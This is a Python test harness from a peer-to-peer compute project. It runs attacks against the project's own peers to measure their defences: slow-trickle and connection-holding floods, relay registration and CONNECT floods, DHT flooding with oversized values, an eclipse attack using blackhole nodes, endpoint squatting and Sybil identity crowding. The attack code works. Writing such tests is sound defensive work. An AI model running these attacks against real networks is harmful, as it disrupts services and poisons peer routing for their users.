"""Attacks on a peer's open doors, run as a stranger (no join secret): for tests/swarms/test_doors_swarm.py and
bench.doors.

``python -m tasklet.peer.emulation.doors_attack KIND ...`` runs one attack and prints one JSON line of what the target
answered (so the caller can tell "refused" from "held"). Kinds:

* ``relay HOST:PORT PEERID``: 64 sockets trickling a byte every 9 s at the relay, 256 REGISTERs with fresh
  keys, and a flood of CONNECTs to ``PEERID``, for ``--seconds``;
* ``ports HOST:PORT ...``: ``--count`` TCP connections held open to each port for ``--seconds``;
* ``hold HOST:PORT ...``: from each of the ``--sources`` addresses (several of one network: a rented block),
  ``--count`` connections to each port, each one reopened when the port cuts it, for ``--seconds``;
* ``squat MULTIADDR RUN SECRET_FILE ENDPOINT``: a member's attack (it has the secret and a real identity): an
  advert of its own naming someone else's ``ENDPOINT`` (the leader's), claiming the oldest start there is, renewed
  every second for ``--seconds``;
* ``dht MULTIADDR RUN``: a hivemind DHT node of its own that stores, under every key of the run, untagged
  subkeys and oversized values;
* ``dht-foreign MULTIADDR``: a plain hivemind DHT node (no key, no secret: what the public join line gives anyone)
  that stores ``--count`` values of ``--value-bytes`` under fresh random keys with hour-long expiries;
* ``dht-fill MULTIADDR RUN SECRET_FILE``: a member's attack: ``--count`` fresh identities each store their
  largest advert under ``peers`` and 250 KiB under every other key of the run, and one of them 64 subkeys under
  ``plans`` (sealed with the secret; an empty file: an open swarm);
* ``eclipse MULTIADDR RUN``: ``--count`` stranger DHT nodes with ids next to the run keys ``--keys``, each taking
  every store and keeping nothing, for ``--seconds`` (or until SIGTERM);
* ``dht-finds MULTIADDR RUN``: a stranger's node asking the node at ``MULTIADDR`` for the run keys ``--keys``,
  ``--count`` finds at a time, for ``--seconds``: how many answers carried the key's value, and its bytes;
* ``peers-crowd MULTIADDR RUN SECRET_FILE``: a member's ``--count`` free identities store their largest adverts in
  the ``peers`` shards of ``--level`` (peer.swarm.shards).
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import json
import signal
import socket
import sys
import threading
import time
from functools import partial
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tasklet.peer.identity.keys import Identity

RUN_KEYS = ("peers", "links", "run", "plans", "progress", "beat")
STOP = threading.Event()  # set by SIGTERM: the attacks that run until a deadline (hold, squat) end early and report


def proc_usage(pid: int) -> dict[str, int]:
    """A process's open descriptors, threads, resident bytes and soft descriptor limit, from /proc."""
    import os

    fds = len(os.listdir(f"/proc/{pid}/fd"))
    threads = rss = 0
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("Threads:"):
                threads = int(line.split()[1])
            elif line.startswith("VmRSS:"):
                rss = int(line.split()[1]) * 1024
    limit = 0
    with open(f"/proc/{pid}/limits") as limits:
        for line in limits:
            if line.startswith("Max open files"):
                limit = int(line.split()[3])
    return {"fds": fds, "threads": threads, "rss": rss, "fd_limit": limit}


def descendants(pid: int) -> list[int]:
    """Every process below ``pid`` (children, theirs, ...), from /proc's parent ids."""
    import os

    parents: dict[int, list[int]] = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            with contextlib.suppress(OSError, IndexError, ValueError), open(f"/proc/{name}/stat") as stat:
                ppid = int(stat.read().rsplit(")", 1)[1].split()[1])
                parents.setdefault(ppid, []).append(int(name))
    out, todo = [], [pid]
    while todo:
        kids = parents.get(todo.pop(), [])
        out += kids
        todo += kids
    return out


def tree_rss(pid: int) -> int:
    """Resident bytes of ``pid`` and every process below it (a DHT process and its p2pd)."""
    total = 0
    for each in [pid, *descendants(pid)]:
        with contextlib.suppress(OSError, KeyError):
            total += proc_usage(each)["rss"]
    return total


class PeakSampler:
    """Samples :func:`proc_usage` of some processes every ``interval_s`` in a thread; ``peak`` per pid and field."""

    def __init__(self, pids: dict[str, int], interval_s: float = 0.5) -> None:
        self.pids, self.interval_s = pids, interval_s
        self.peak: dict[str, dict[str, int]] = {name: {} for name in pids}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)

    def _loop(self) -> None:
        while not self._stop.wait(self.interval_s):
            for name, pid in self.pids.items():
                with contextlib.suppress(OSError, ValueError):
                    for field, value in proc_usage(pid).items():
                        self.peak[name][field] = max(self.peak[name].get(field, 0), value)

    def __enter__(self) -> PeakSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)


def _split(addr: str) -> tuple[str, int]:
    host, _, port = addr.rpartition(":")
    return host, int(port)


def _fresh_key() -> tuple[bytes, object]:
    """An RSA key in the format of our identities (OpenSSH public key); 1024 bits: the relay cannot tell."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    public = key.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    return public, key


def relay_attack(addr: str, target: str, seconds: float, trickle: int = 64, registers: int = 256) -> dict:
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    from tasklet.peer.identity.keys import peer_id_from_public_key

    host, port = _split(addr)
    out = {"trickle_cut": 0, "trickle_refused": 0, "register_answers": {}, "connect_answers": {}}
    lock = threading.Lock()
    stop = time.monotonic() + seconds

    def count(field: str, answer: str) -> None:
        with lock:
            out[field][answer] = out[field].get(answer, 0) + 1

    def trickler() -> None:
        while time.monotonic() < stop:
            try:
                s = socket.create_connection((host, port), timeout=5)
            except OSError:
                with lock:
                    out["trickle_refused"] += 1
                time.sleep(1)
                continue
            try:
                while time.monotonic() < stop:
                    s.sendall(b"C")
                    s.settimeout(9)
                    try:
                        if s.recv(100) == b"":
                            raise ConnectionResetError
                    except TimeoutError:
                        continue
            except OSError:
                with lock:
                    out["trickle_cut"] += 1
                time.sleep(0.2)  # then open another one
            finally:
                s.close()

    def registrar() -> None:
        for _ in range(registers):
            if time.monotonic() >= stop:
                return
            public, key = _fresh_key()
            peer_id = peer_id_from_public_key(public)
            try:
                with socket.create_connection((host, port), timeout=10) as s:
                    f = s.makefile("rwb")
                    f.write(f"TASKLET-RELAY/1 REGISTER {peer_id}\n".encode())
                    f.flush()
                    nonce = f.readline().decode().split()[1]
                    sig = key.sign(b"tasklet-relay-register:" + nonce.encode(), padding.PKCS1v15(), hashes.SHA256())
                    f.write(b"KEY " + base64.b64encode(public) + b"\nSIG " + base64.b64encode(sig) + b"\nPROOF -\n")
                    f.flush()
                    answer = f.readline().decode().strip()
                count("register_answers", " ".join(answer.split()[:2]) or "closed")
            except (OSError, IndexError):
                count("register_answers", "closed")

    def connector() -> None:
        while time.monotonic() < stop:
            try:
                with socket.create_connection((host, port), timeout=10) as s:
                    s.sendall(f"CONNECT {target}.tasklet:1 HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                    s.settimeout(10)
                    answer = s.makefile("rb").readline().decode().strip()
                count("connect_answers", " ".join(answer.split()[1:2]) or "closed")
            except OSError:
                count("connect_answers", "closed")
            time.sleep(0.02)

    threads = [threading.Thread(target=trickler, daemon=True) for _ in range(trickle)]
    threads += [threading.Thread(target=registrar, daemon=True)]
    threads += [threading.Thread(target=connector, daemon=True) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.0, stop - time.monotonic()) + 15)
    return out


def port_flood(addrs: list[str], count: int, seconds: float) -> dict:
    """Open up to ``count`` connections to each address and hold them; how many stayed open at the end."""
    held: dict[str, list[socket.socket]] = {a: [] for a in addrs}
    refused = dict.fromkeys(addrs, 0)
    for addr in addrs:
        for _ in range(count):
            try:
                held[addr].append(socket.create_connection(_split(addr), timeout=3))
            except OSError:
                refused[addr] += 1
    time.sleep(seconds)
    still = {}
    for addr, conns in held.items():
        alive = 0
        for s in conns:
            s.setblocking(False)
            try:
                alive += s.recv(1, socket.MSG_PEEK) != b""
            except BlockingIOError:
                alive += 1
            except OSError:
                pass
            s.close()
        still[addr] = alive
    return {"opened": {a: len(c) for a, c in held.items()}, "refused": refused, "open_at_end": still}


def hold_ports(addrs: list[str], sources: list[str], count: int, seconds: float, every_s: float = 1.0) -> dict:
    """Hold ``count`` connections to each of ``addrs`` from each of ``sources`` (bound source addresses; empty:
    the host's own), reopening the ones the port cut every ``every_s``; per port: the most held at once (counted
    when a round's connections have lived a round: a port that admits and cuts at once holds none), the cuts, and
    how many were held at the end."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = max(soft, min(hard, len(addrs) * max(1, len(sources)) * count + 256))
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    slots = [(addr, src) for addr in addrs for src in (sources or [""])]
    held: dict[tuple[str, str], list[socket.socket]] = {slot: [] for slot in slots}
    peak, cut, failed = dict.fromkeys(addrs, 0), dict.fromkeys(addrs, 0), dict.fromkeys(addrs, 0)
    stop = time.monotonic() + seconds
    while True:
        alive_now = dict.fromkeys(addrs, 0)
        for (addr, src), conns in held.items():
            alive = [c for c in conns if _alive(c)]
            for c in conns:
                if c not in alive:
                    c.close()
            cut[addr] += len(conns) - len(alive)
            held[(addr, src)] = alive
            alive_now[addr] += len(alive)
        for addr in addrs:
            peak[addr] = max(peak[addr], alive_now[addr])
        if time.monotonic() >= stop or STOP.is_set():
            break
        for (addr, src), conns in held.items():
            while len(conns) < count and time.monotonic() < stop and not STOP.is_set():
                try:
                    conns.append(socket.create_connection(_split(addr), timeout=3,
                                                          source_address=(src, 0) if src else None))
                except OSError:
                    failed[addr] += 1
                    break
        if STOP.wait(max(0.0, min(every_s, stop - time.monotonic()))):
            time.sleep(min(every_s, 1.0))  # the connections just opened get their answer before the last count
    for conns in held.values():
        for c in conns:
            c.close()
    return {"sources": len(sources) or 1, "peak_held": peak, "cut": cut, "failed": failed, "held_at_end": alive_now}


def _alive(s: socket.socket) -> bool:
    """Whether the other end has not closed ``s`` (it may have sent bytes: those stay unread)."""
    s.setblocking(False)
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def squat(initial_peer: str, run_id: str, secret: str | None, endpoint: str, seconds: float) -> dict:
    """A member with a real identity advertises ``endpoint`` (another peer's) as its own, with the oldest start a
    record allows, renewing the advert every second; what it stored and its peer id."""
    from tasklet.peer.compute.device_probe import DeviceInfo
    from tasklet.peer.identity.certs import make_certificate, pem_to_text
    from tasklet.peer.identity.keys import Identity
    from tasklet.peer.swarm.adverts import Advert
    from tasklet.peer.swarm.dht import DHTConfig, start_dht
    from tasklet.peer.swarm.records import RecordStore
    from tasklet.peer.timing import now

    identity = Identity.generate()
    dht = start_dht(DHTConfig(initial_peers=(initial_peer,), host="0.0.0.0", client_mode=True), identity)
    out = {"peer_id": identity.peer_id, "stored": 0, "tried": 0}
    print(json.dumps({"peer_id": identity.peer_id}), flush=True)  # who squats, while it does
    try:
        store = RecordStore(dht, run_id, identity, secret)
        device = DeviceInfo("squatter", "cpu", 2**34, 1e3, True, False)
        advert = Advert(identity.peer_id, endpoint, device, 1.0, cert=pem_to_text(make_certificate(identity)))
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not STOP.is_set():
            out["tried"] += 1
            out["stored"] += bool(store.put("peers", {"advert": advert.to_record(), "at": now(), "found": []},
                                            now() + 5.0))
            STOP.wait(1.0)
    finally:
        dht.shutdown()
    return out


def dht_flood(initial_peer: str, run_id: str, untagged: int, oversized: int, value_bytes: int, seconds: float) -> dict:
    """Store untagged subkeys and oversized, long-lived values under every key of the run until done or ``seconds``
    have passed. The stores run inside the attacker's DHT process (hivemind's pipe to it breaks on large values)."""
    import hivemind

    dht = hivemind.DHT(initial_peers=[initial_peer], start=True, client_mode=False,
                       host_maddrs=["/ip4/0.0.0.0/tcp/0"])
    try:
        keys = tuple(f"{run_id}:{name}" for name in RUN_KEYS)
        job = partial(_flood_in_child, keys=keys, untagged=untagged, oversized=oversized, value_bytes=value_bytes,
                      deadline=time.time() + seconds)
        return dht.run_coroutine(job)
    finally:
        dht.shutdown()


async def _flood_in_child(_dht: object, node: object, keys: tuple[str, ...], untagged: int, oversized: int,
                          value_bytes: int, deadline: float) -> dict:
    """Runs in the attacker's DHT process (module level: it is pickled there)."""
    import asyncio

    stored = dict.fromkeys(("untagged", "oversized"), 0)
    tried = dict.fromkeys(("untagged", "oversized"), 0)
    jobs = [("untagged", k, {"p": {"x": i}, "mac": None}, 3600.0, f"junk{i}".encode())
            for i in range(untagged) for k in keys]
    jobs += [("oversized", k, {"p": {"x": "y" * value_bytes}, "mac": None}, 10.0**6, f"big{i}".encode())
             for k in keys for i in range(oversized)]
    for kind, key, value, lifetime, subkey in jobs:
        if time.time() >= deadline:
            break
        tried[kind] += 1
        with contextlib.suppress(Exception):
            ok = await asyncio.wait_for(node.store(key, value, time.time() + lifetime, subkey=subkey), 10.0)
            stored[kind] += bool(ok)
    return {"stored": stored, "tried": tried}


def dht_foreign_flood(initial_peer: str, count: int, value_bytes: int, seconds: float) -> dict:
    """Store ``count`` values of ``value_bytes`` under random keys through a plain hivemind node, as a stranger."""
    import hivemind

    dht = hivemind.DHT(initial_peers=[initial_peer], start=True, client_mode=False,
                       host_maddrs=["/ip4/0.0.0.0/tcp/0"])
    try:
        job = partial(_foreign_in_child, count=count, value_bytes=value_bytes, deadline=time.time() + seconds)
        return dht.run_coroutine(job)
    finally:
        dht.shutdown()


async def _foreign_in_child(_dht: object, node: object, count: int, value_bytes: int, deadline: float) -> dict:
    """Runs in the attacker's DHT process: 8 stores at a time, each to the nodes nearest its random key."""
    import asyncio
    import os

    out = {"stored": 0, "tried": 0, "bytes_sent": 0}
    queue = list(range(count))

    async def worker() -> None:
        while queue and time.time() < deadline:
            queue.pop()
            out["tried"] += 1
            value = os.urandom(value_bytes)
            with contextlib.suppress(Exception):
                ok = await asyncio.wait_for(node.store(os.urandom(16).hex(), value, time.time() + 3600.0), 20.0)
                out["stored"] += bool(ok)
                out["bytes_sent"] += value_bytes

    await asyncio.gather(*(worker() for _ in range(8)))
    return out


def dht_run_key_fill(initial_peer: str, run_id: str, secret: str | None, identities: int, seconds: float) -> dict:
    """A member with the secret and ``identities`` free identities fills every key of the run: each identity
    stores its largest advert under ``peers``, and 250 KiB under ``links``, ``run``, ``beat``, ``progress``,
    ``stewards`` and ``plans``; the first also stores 64 ``plans`` subkeys. The stores are made inside the
    attacker's DHT process, each signed with its identity's key (hivemind's pipe to that process does not carry
    values of this size). Returns what the run's nodes accepted, per key."""
    from tasklet.peer.identity.keys import Identity
    from tasklet.peer.swarm.dht import DHTConfig, start_dht

    dht = start_dht(DHTConfig(initial_peers=(initial_peer,), host="0.0.0.0", client_mode=True), Identity.generate())
    try:
        return dht.run_coroutine(partial(_fill_run_keys, run_id=run_id, secret=secret, identities=identities,
                                         deadline=time.time() + seconds))
    finally:
        dht.shutdown()


def peers_crowd(initial_peer: str, run_id: str, secret: str | None, identities: int, level: int,
                seconds: float) -> dict:
    """A member's ``identities`` free identities each store their largest advert in the ``peers`` shard a writer
    at ``level`` uses (peer.swarm.shards): more peers than one key holds, or readers pushed to deeper levels.
    Returns the adverts the run's nodes took, per shard."""
    from tasklet.peer.identity.keys import Identity
    from tasklet.peer.swarm.dht import DHTConfig, start_dht

    dht = start_dht(DHTConfig(initial_peers=(initial_peer,), host="0.0.0.0", client_mode=True), Identity.generate())
    try:
        return dht.run_coroutine(partial(_crowd, run_id=run_id, secret=secret, identities=identities, level=level,
                                         deadline=time.time() + seconds))
    finally:
        dht.shutdown()


async def _crowd(_dht: object, node: object, run_id: str, secret: str | None, identities: int, level: int,
                 deadline: float) -> dict:
    """Runs in the DHT process of :func:`peers_crowd`."""
    import asyncio

    from tasklet.peer.identity.keys import Identity
    from tasklet.peer.swarm.records import RECORD_TTL_S, record_key, seal
    from tasklet.peer.swarm.shards import level_suffix, shard_name, shard_of
    from tasklet.peer.timing import now

    key = None if secret is None else record_key(secret, run_id)
    ids = [Identity.generate() for _ in range(identities)]
    node.protocol.record_validator = _Signer({i.owner_tag: i.private_key for i in ids})  # type: ignore[attr-defined]
    stored: dict[str, int] = {}
    gate = asyncio.Semaphore(8)

    async def store(identity: Identity) -> None:
        payload = padded_advert(identity)
        expires_at = now() + RECORD_TTL_S["peers"] - 5.0
        suffix = level_suffix(level)
        mac = None if key is None else seal(key, run_id, "peers", identity.peer_id, suffix, expires_at, payload)
        shard = shard_of(identity.peer_id, level)
        async with gate:
            for _ in range(STORE_TRIES):
                if time.time() > deadline:
                    return
                with contextlib.suppress(Exception):
                    ok = await asyncio.wait_for(node.store(f"{run_id}:{shard_name('peers', shard)}",  # type: ignore[attr-defined]
                                                           {"p": payload, "mac": mac}, expires_at,
                                                           subkey=identity.owner_tag + suffix, exclude_self=True),
                                                20.0)
                    if ok:
                        stored[str(shard)] = stored.get(str(shard), 0) + 1
                        return

    await asyncio.gather(*(store(identity) for identity in ids))
    return {"identities": identities, "level": level, "stored": stored}


class _Signer:
    """A record validator that signs each record with the key of the identity whose owner tag it carries."""

    def __init__(self, keys: dict[bytes, object]) -> None:
        self.keys = keys

    def sign_value(self, record: object) -> bytes:
        import dataclasses

        from hivemind.dht.crypto import RSASignatureValidator
        from hivemind.utils import MSGPackSerializer

        for tag, key in self.keys.items():
            if tag in record.subkey:  # type: ignore[attr-defined]
                signature = key.sign(MSGPackSerializer.dumps(dataclasses.astuple(record)))  # type: ignore[attr-defined]
                return record.value + RSASignatureValidator.SIGNATURE_FORMAT.replace(b"_value_", signature)  # type: ignore[attr-defined]
        return record.value  # type: ignore[attr-defined]

    def validate(self, record: object) -> bool:
        return True

    def strip_value(self, record: object) -> bytes:
        from hivemind.dht.crypto import RSASignatureValidator

        return RSASignatureValidator._SIGNATURE_RE.sub(b"", record.value)  # type: ignore[attr-defined]


STORE_TRIES = 6  # of each of the fill's stores (a `peers` store not taken waits a second before the next)


async def _fill_run_keys(_dht: object, node: object, run_id: str, secret: str | None, identities: int,
                         deadline: float) -> dict:
    """Runs in the attacker's DHT process (see :func:`dht_run_key_fill`)."""
    import asyncio

    from tasklet.peer.identity.keys import Identity
    from tasklet.peer.swarm.records import RECORD_TTL_S, record_key, seal
    from tasklet.peer.timing import now

    key = None if secret is None else record_key(secret, run_id)
    ids = [Identity.generate() for _ in range(identities)]
    node.protocol.record_validator = _Signer({i.owner_tag: i.private_key for i in ids})  # type: ignore[attr-defined]
    pad = "x" * (250 << 10)
    jobs: list[tuple[str, Identity, bytes, dict]] = []
    for identity in ids:
        jobs += [("peers", identity, b"", padded_advert(identity)),
                 ("links", identity, b"", {"links": [], "at": now(), "pad": pad}),
                 ("run", identity, b"", {"config": {}, "pad": pad}),
                 ("beat", identity, b"", {"leader": identity.peer_id, "pad": pad}),
                 ("progress", identity, b"", {"leader": identity.peer_id, "pad": pad}),
                 ("stewards", identity, b"/0", {"pad": pad}),
                 ("plans", identity, b"|epoch=0", {"epoch": 0, "pad": pad})]
    jobs += [("plans", ids[0], b"|epoch=%d" % e, {"epoch": e, "pad": "x" * 4096}) for e in range(1, 64)]
    out: dict = {name: 0 for name in ("peers", "links", "run", "beat", "progress", "stewards", "plans")}
    out["tried"] = 0
    gate = asyncio.Semaphore(8)

    async def store(name: str, identity: Identity, suffix: bytes, payload: dict) -> None:
        if time.time() > deadline:
            return
        expires_at = now() + RECORD_TTL_S[name] - 5.0  # as long as a record of its kind may live
        mac = None if key is None else seal(key, run_id, name, identity.peer_id, suffix, expires_at, payload)
        async with gate:
            out["tried"] += 1
            for _ in range(STORE_TRIES):  # a store a busy node did not answer or take in time goes again
                try:
                    # exclude_self: what the run's nodes took, not the attacker's own node (hivemind counts it)
                    ok = await asyncio.wait_for(node.store(f"{run_id}:{name}", {"p": payload, "mac": mac},  # type: ignore[attr-defined]
                                                           expires_at, subkey=identity.owner_tag + suffix,
                                                           exclude_self=True), 20.0)
                except Exception:  # noqa: BLE001 - no answer in time: try again while the attack lasts
                    if time.time() > deadline:
                        return
                    continue
                if ok or name != "peers":  # only `peers` takes every identity's entry; elsewhere a budget refuses
                    out[name] += bool(ok)
                    return
                await asyncio.sleep(1.0)  # a busy node's refusal: give it a moment

    await asyncio.gather(*(store(*job) for job in jobs))
    out["identities"] = identities
    return out


def dht_eclipse(initial_peer: str, run_id: str, nodes: int, names: list[str], seconds: float,
                host: str = "0.0.0.0") -> dict:
    """``nodes`` stranger DHT nodes whose ids sit next to the run's keys ``names`` (spread over them in turn), each
    accepting every store and keeping nothing: a lookup that trusts the nodes nearest a key finds nothing there.
    Runs until ``seconds`` pass or SIGTERM; returns the stores and finds they swallowed."""
    import asyncio

    return asyncio.run(_eclipse(initial_peer, run_id, nodes, names, time.time() + seconds, host))


async def _eclipse(initial_peer: str, run_id: str, nodes: int, names: list[str], deadline: float,
                   host: str) -> dict:
    import asyncio

    from hivemind.dht.node import DHTNode
    from hivemind.dht.routing import DHTID
    from hivemind.dht.storage import DHTLocalStorage

    out = {"nodes": 0, "stores": 0, "finds": 0, "keys": list(names)}

    class Blackhole(DHTLocalStorage):
        """Says yes to every store, keeps nothing, finds nothing."""

        def store(self, key, value, expiration_time, subkey=None) -> bool:  # type: ignore[no-untyped-def]
            out["stores"] += 1
            return True

        def store_subkey(self, key, subkey, value, expiration_time) -> bool:  # type: ignore[no-untyped-def]
            out["stores"] += 1
            return True

        def get(self, key):  # type: ignore[no-untyped-def]
            out["finds"] += 1
            return None

    started = []
    for i in range(nodes):
        target = DHTID.generate(source=f"{run_id}:{names[i % len(names)]}")
        node_id = DHTID(int(target) ^ (1 + i // len(names)))  # the nearest ids there are, after the key's own
        node = await DHTNode.create(initial_peers=[initial_peer], node_id=node_id, host_maddrs=[f"/ip4/{host}/tcp/0"],
                                    bucket_size=8, num_replicas=5, cache_nearest=0)
        node.protocol.storage, node.protocol.cache = Blackhole(), Blackhole()
        started.append(node)
        out["nodes"] += 1
    print(json.dumps({"ready": out["nodes"]}), flush=True)
    # make the run's nodes meet them: every lookup a stranger makes puts it in the routing tables it passes
    while time.time() < deadline and not STOP.is_set():
        for i, node in enumerate(started):
            name = names[i % len(names)]
            with contextlib.suppress(Exception):
                await asyncio.wait_for(node.find_nearest_nodes([DHTID.generate(source=f"{run_id}:{name}")]), 5.0)
        await asyncio.sleep(1.0)
    for node in started:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(node.shutdown(), 10.0)
    return out


def dht_finds(target: str, run_id: str, names: list[str], workers: int, seconds: float) -> dict:
    """A stranger's node asks ``target`` (a ``/p2p/`` multiaddr) for the run's keys ``names``, ``workers`` finds at
    a time, until ``seconds`` pass or SIGTERM; returns the answers that carried a value and the bytes they held."""
    import asyncio

    return asyncio.run(_finds(target, run_id, names, workers, time.time() + seconds))


async def _finds(target: str, run_id: str, names: list[str], workers: int, deadline: float) -> dict:
    import asyncio

    from hivemind.dht.node import DHTNode
    from hivemind.dht.routing import DHTID
    from hivemind.p2p import PeerID
    from hivemind.utils.multiaddr import Multiaddr

    out = {"finds": 0, "with_value": 0, "value_bytes": 0, "errors": 0}
    node = await DHTNode.create(initial_peers=[target], client_mode=True, cache_nearest=0)
    peer = PeerID.from_base58(Multiaddr(target).get("p2p"))
    keys = [DHTID.generate(source=f"{run_id}:{name}") for name in names]

    async def worker(i: int) -> None:
        while time.time() < deadline and not STOP.is_set():
            key = keys[i % len(keys)]
            i += 1
            out["finds"] += 1
            try:
                found = await asyncio.wait_for(node.protocol.call_find(peer, [key]), 10.0)
            except Exception:
                out["errors"] += 1
                continue
            value = (found or {}).get(key, (None, None))[0]
            if value is None:
                continue
            out["with_value"] += 1
            items = value.value.items() if hasattr(value.value, "items") else [(None, (value.value, None))]
            out["value_bytes"] += sum(len(v) for _, (v, _) in items)

    await asyncio.gather(*(worker(i) for i in range(workers)))
    with contextlib.suppress(Exception):
        await asyncio.wait_for(node.shutdown(), 10.0)
    return out


def padded_advert(identity: Identity) -> dict:
    """The writer's own advert, as large as the schema lets it be (full ``extra`` and ``found``)."""
    from tasklet.peer.compute.device_probe import DeviceInfo
    from tasklet.peer.identity.certs import make_certificate, pem_to_text
    from tasklet.peer.swarm.adverts import Advert
    from tasklet.peer.timing import now

    device = DeviceInfo("attacker", "cpu", 2**40, 1e4, True, False)
    advert = Advert(identity.peer_id, "192.0.2.1:9", device, now() - 10**6, extra={"pad": "x" * 4000},
                    cert=pem_to_text(make_certificate(identity)))
    return {"advert": advert.to_record(), "at": now(), "found": [f"{i:020x}" for i in range(256)]}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m tasklet.peer.emulation.doors_attack")
    p.add_argument("kind", choices=["relay", "ports", "hold", "squat", "dht", "dht-foreign", "dht-fill", "eclipse",
                                    "dht-finds", "peers-crowd"])
    p.add_argument("--level", type=int, default=1, help="peers-crowd: the shard level its identities write at")
    p.add_argument("--keys", default="peers", help="eclipse, dht-finds: comma-separated run keys to sit next to/ask")
    p.add_argument("--host", default="0.0.0.0", help="eclipse: the address its nodes listen on")
    p.add_argument("args", nargs="+")
    p.add_argument("--seconds", type=float, default=20.0)
    p.add_argument("--count", type=int, default=400)
    p.add_argument("--untagged", type=int, default=200)
    p.add_argument("--oversized", type=int, default=2)
    p.add_argument("--value-bytes", type=int, default=512 << 10)
    p.add_argument("--sources", default="", help="hold: comma-separated source addresses to bind")
    p.add_argument("--every", type=float, default=1.0, help="hold: seconds between rounds of reopening")
    a = p.parse_args(argv)
    signal.signal(signal.SIGTERM, lambda *_: STOP.set())
    if a.kind == "relay":
        result = relay_attack(a.args[0], a.args[1], a.seconds)
    elif a.kind == "ports":
        result = port_flood(a.args, a.count, a.seconds)
    elif a.kind == "hold":
        result = hold_ports(a.args, [x for x in a.sources.split(",") if x], a.count, a.seconds, a.every)
    elif a.kind == "squat":
        with open(a.args[2]) as handle:
            secret = handle.read().strip() or None
        result = squat(a.args[0], a.args[1], secret, a.args[3], a.seconds)
    elif a.kind == "dht-foreign":
        result = dht_foreign_flood(a.args[0], a.count, a.value_bytes, a.seconds)
    elif a.kind == "eclipse":
        result = dht_eclipse(a.args[0], a.args[1], a.count, a.keys.split(","), a.seconds, a.host)
    elif a.kind == "dht-finds":
        result = dht_finds(a.args[0], a.args[1], a.keys.split(","), a.count, a.seconds)
    elif a.kind == "peers-crowd":
        with open(a.args[2]) as handle:
            secret = handle.read().strip() or None
        result = peers_crowd(a.args[0], a.args[1], secret, a.count, a.level, a.seconds)
    elif a.kind == "dht-fill":
        with open(a.args[2]) as handle:
            secret = handle.read().strip() or None
        result = dht_run_key_fill(a.args[0], a.args[1], secret, a.count, a.seconds)
    else:
        result = dht_flood(a.args[0], a.args[1], a.untagged, a.oversized, a.value_bytes, a.seconds)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
